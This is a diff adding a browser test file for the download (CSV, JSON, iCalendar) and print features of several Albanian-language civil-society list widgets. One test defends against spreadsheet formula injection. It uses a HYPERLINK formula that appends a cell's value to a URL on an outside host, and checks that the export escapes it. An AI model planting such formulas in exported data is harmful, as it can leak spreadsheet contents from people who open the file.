@@ -1,0 +1,295 @@
+import { expect } from '@open-wc/testing';
+import { emulateMedia } from '@web/test-runner-commands';
+import '../../components/call-list/call-list.define.ts';
+import '../../components/event-list/event-list.define.ts';
+import '../../components/grant-list/grant-list.define.ts';
+import '../../components/member-directory/member-directory.define.ts';
+import {
+  $,
+  $$,
+  call,
+  CIVIL_SOCIETY,
+  dataset,
+  isVisible,
+  mount,
+  said,
+  settled,
+  show,
+  tidy,
+  until,
+  words,
+  type AnyWidget,
+} from './helpers.ts';
+
+/** A file as a visitor gets it. */
+interface File {
+  readonly name: string;
+  readonly type: string;
+  readonly text: string;
+}
+
+// A blob's own text() leaves out the mark by which Excel knows UTF-8.
+const decoder = new TextDecoder('utf-8', { ignoreBOM: true });
+
+const { createObjectURL } = URL;
+const { click } = HTMLAnchorElement.prototype;
+let blob: Blob | undefined;
+let name: string | undefined;
+
+/** Presses the button of a format, and keeps the file from the disk. */
+async function take(widget: Element, format: string): Promise<File> {
+  blob = name = undefined;
+  $$(widget, '[part=downloads] button')
+    .find(({ textContent }) => words(textContent) === format)!
+    .click();
+  return { name: name!, type: blob!.type, text: decoder.decode(await blob!.arrayBuffer()) };
+}
+
+const formats = (widget: Element) =>
+  $$(widget, '[part=downloads] button').map(({ textContent }) => words(textContent));
+const rows = (widget: Element) => $$(widget, '[part=row]');
+
+/** The cells of a table, line by line: quotes are taken off. */
+const cells = (csv: string) =>
+  csv
+    .replace(/^\ufeff/, '')
+    .split('\r\n')
+    .filter(Boolean)
+    .map((line) =>
+      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
+        ([, quoted, plain]) => quoted?.replace(/""/g, '"') ?? plain ?? '',
+      ),
+    );
+
+/** The lists, with the filter that a visitor sets, and how many rows there are with and without it. */
+const LISTS = [
+  {
+    tag: 'ura-member-directory',
+    attributes: 'network="rrjeti-harku" limit="2"',
+    file: 'organisations',
+    list: 'organisations',
+    all: 14,
+    filter: { label: 'Lloji', value: 'ngo', count: 5, said: 'Lloji: Organizata joqeveritare (OJQ)' },
+    heading: 'Emri',
+  },
+  {
+    tag: 'ura-call-list',
+    attributes: 'limit="1"',
+    file: 'calls',
+    list: 'calls',
+    all: 4,
+    filter: { label: 'Monedha', value: 'ALL', count: 1, said: 'Monedha: ALL' },
+    heading: 'Titulli',
+  },
+  {
+    tag: 'ura-event-list',
+    attributes: 'limit="1"',
+    file: 'events',
+    list: 'events',
+    all: undefined,
+    filter: { label: 'Komuna', value: 'xk-gjilan', count: undefined, said: 'Komuna: Gjilan' },
+    heading: 'Titulli',
+  },
+  {
+    tag: 'ura-grant-list',
+    attributes: 'limit="2"',
+    file: 'grants',
+    list: 'grants',
+    all: undefined,
+    filter: { label: 'Komuna', value: 'xk-gjilan', count: undefined, said: 'Komuna: Gjilan' },
+    heading: 'Granti',
+  },
+] as const;
+
+type List = (typeof LISTS)[number];
+
+const make = ({ tag, attributes }: List) =>
+  show(`<${tag} ${attributes} src="${CIVIL_SOCIETY}"></${tag}>`) as Promise<AnyWidget>;
+
+async function filterBy(widget: AnyWidget, { label, value }: List['filter']): Promise<void> {
+  const select = $$(widget, '.control')
+    .find((control) => words(control.querySelector('span')!.textContent) === label)!
+    .querySelector('select')!;
+  select.value = value;
+  select.dispatchEvent(new Event('change'));
+  await widget.updateComplete;
+}
+
+/** How many the list itself says that there are. */
+const counted = (widget: Element) => Number(/\d+/.exec(said(widget, '[part=count] span'))![0]);
+
+for (const list of LISTS) {
+  describe(`The files of <${list.tag}>`, () => {
+    beforeEach(() => {
+      URL.createObjectURL = (made) => {
+        blob = made as Blob;
+        return createObjectURL.call(URL, made);
+      };
+      HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
+        name = this.download;
+      };
+    });
+    afterEach(() => {
+      URL.createObjectURL = createObjectURL;
+      HTMLAnchorElement.prototype.click = click;
+      tidy();
+    });
+
+    it('are named after what is in them, and say their type and their letters', async () => {
+      const widget = await make(list);
+      const csv = await take(widget, 'CSV');
+      expect([csv.name, csv.type]).to.deep.equal([`${list.file}.csv`, 'text/csv;charset=utf-8']);
+      expect(csv.text.charCodeAt(0)).to.equal(0xfeff);
+      const json = await take(widget, 'JSON');
+      expect([json.name, json.type]).to.deep.equal([`${list.file}.json`, 'application/json;charset=utf-8']);
+    });
+
+    it('have all that was found, also what is not in the page yet', async () => {
+      const widget = await make(list);
+      const count = counted(widget);
+      expect(rows(widget).length).to.be.below(count);
+      const [head, ...lines] = cells((await take(widget, 'CSV')).text);
+      expect(head![0]).to.equal(list.heading);
+      expect(lines).to.have.length(count);
+      for (const line of lines) expect(line, line[0]).to.have.length(head!.length);
+      const records = JSON.parse((await take(widget, 'JSON')).text) as { id: string }[];
+      expect(records).to.have.length(count);
+      expect(new Set(records.map(({ id }) => id)).size).to.equal(count);
+    });
+
+    it('have what the visitor filtered by and nothing else, in the order of the list', async () => {
+      const widget = await make(list);
+      const all = counted(widget);
+      await filterBy(widget, list.filter);
+      const count = counted(widget);
+      expect(count).to.be.within(1, all - 1);
+      const lines = cells((await take(widget, 'CSV')).text).slice(1);
+      const records = JSON.parse((await take(widget, 'JSON')).text) as { id: string }[];
+      expect([lines.length, records.length]).to.deep.equal([count, count]);
+      dispatchEvent(new Event('beforeprint'));
+      const names = $$(widget, '[part=row] .name').map(({ textContent }) => words(textContent));
+      dispatchEvent(new Event('afterprint'));
+      if (names.length) expect(lines.map(([first]) => words(first))).to.deep.equal(names);
+    });
+  });
+
+  describe(`<${list.tag}> on paper`, () => {
+    afterEach(async () => {
+      dispatchEvent(new Event('afterprint'));
+      await emulateMedia({ media: 'screen' });
+      tidy();
+    });
+
+    it('has all rows, and nothing that can be pressed', async () => {
+      const widget = await make(list);
+      const count = counted(widget);
+      expect(rows(widget).length).to.be.below(count);
+      await emulateMedia({ media: 'print' });
+      dispatchEvent(new Event('beforeprint'));
+      expect(rows(widget)).to.have.length(count);
+      for (const part of ['controls', 'downloads', 'more'])
+        for (const element of $$(widget, `[part=${part}]`)) expect(isVisible(element), part).to.equal(false);
+      dispatchEvent(new Event('afterprint'));
+      expect(rows(widget).length).to.be.below(count);
+    });
+
+    it('says under it what it was filtered by, on which day, and from where it came', async () => {
+      const widget = await make(list);
+      expect($(widget, '[part=imprint]')).to.equal(null);
+      dispatchEvent(new Event('beforeprint'));
+      const source = `Burimi: ${new URL(CIVIL_SOCIETY, location.href).href}`;
+      expect(said(widget, '[part=imprint]')).to.equal(`22 nëntor 2026 · ${source}`);
+      dispatchEvent(new Event('afterprint'));
+      await filterBy(widget, list.filter);
+      const search = $<HTMLInputElement>(widget, 'input[type=search]')!;
+      search.value = 'a';
+      search.dispatchEvent(new Event('input'));
+      await widget.updateComplete;
+      dispatchEvent(new Event('beforeprint'));
+      const [first, ...rest] = said(widget, '[part=imprint]').split(' · ');
+      expect(first).to.match(/: a$/);
+      expect(rest).to.deep.equal([list.filter.said, '22 nëntor 2026', source]);
+      dispatchEvent(new Event('afterprint'));
+      expect($(widget, '[part=imprint]')).to.equal(null);
+    });
+  });
+}
+
+describe('The calendars of lists', () => {
+  beforeEach(() => {
+    URL.createObjectURL = (made) => {
+      blob = made as Blob;
+      return createObjectURL.call(URL, made);
+    };
+    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
+      name = this.download;
+    };
+  });
+  afterEach(() => {
+    URL.createObjectURL = createObjectURL;
+    HTMLAnchorElement.prototype.click = click;
+    tidy();
+  });
+
+  it('are there for what has a day, and for nothing else', async () => {
+    const found = await Promise.all(LISTS.map(async (list) => [list.file, formats(await make(list))]));
+    expect(Object.fromEntries(found)).to.deep.equal({
+      organisations: ['CSV', 'JSON'],
+      calls: ['CSV', 'JSON', 'iCalendar'],
+      events: ['CSV', 'JSON', 'iCalendar'],
+      grants: ['CSV', 'JSON'],
+    });
+  });
+
+  it('have the deadlines that are ahead, of the calls that were found, each with its own id', async () => {
+    const widget = await make(LISTS[1]);
+    const { name: called, type, text } = await take(widget, 'iCalendar');
+    expect([called, type]).to.deep.equal(['calls.ics', 'text/calendar;charset=utf-8']);
+    const ids = text.match(/^UID:.*$/gm)!;
+    expect(new Set(ids).size).to.equal(ids.length);
+    expect(ids.length).to.be.above(1);
+    await filterBy(widget, LISTS[1].filter);
+    expect((await take(widget, 'iCalendar')).text.match(/^UID:.*$/gm)).to.have.length(1);
+  });
+
+  it('have the events that were found', async () => {
+    const widget = await make(LISTS[2]);
+    const before = (await take(widget, 'iCalendar')).text.match(/^BEGIN:VEVENT/gm)!.length;
+    await filterBy(widget, LISTS[2].filter);
+    const { name: called, text } = await take(widget, 'iCalendar');
+    expect(called).to.equal('events.ics');
+    expect(text.match(/^BEGIN:VEVENT/gm)!.length).to.be.within(1, before - 1);
+  });
+});
+
+describe('A name that a spreadsheet would run', () => {
+  beforeEach(() => {
+    URL.createObjectURL = (made) => {
+      blob = made as Blob;
+      return createObjectURL.call(URL, made);
+    };
+    HTMLAnchorElement.prototype.click = () => {};
+  });
+  afterEach(() => {
+    URL.createObjectURL = createObjectURL;
+    HTMLAnchorElement.prototype.click = click;
+    tidy();
+  });
+
+  it('is text in the table, and as it was written in the data', async () => {
+    const widget = mount<AnyWidget>('<ura-call-list></ura-call-list>', 'en');
+    const formula = '=HYPERLINK("https://example.org/?"&A1,"Click")';
+    widget.data = dataset({
+      calls: [
+        call({ title: formula, deadlines: [{ at: '2026-12-04' }] }),
+        call({ id: 'd', title: 'Second', deadlines: [{ at: '2026-12-05' }] }),
+      ],
+    });
+    await settled(widget);
+    await until(() => rows(widget).length === 2);
+    const lines = cells((await take(widget, 'CSV')).text);
+    expect(lines[1]![0]).to.equal(`'${formula}`);
+    const [first] = JSON.parse((await take(widget, 'JSON')).text) as { title: string }[];
+    expect(first!.title).to.equal(formula);
+  });
+});
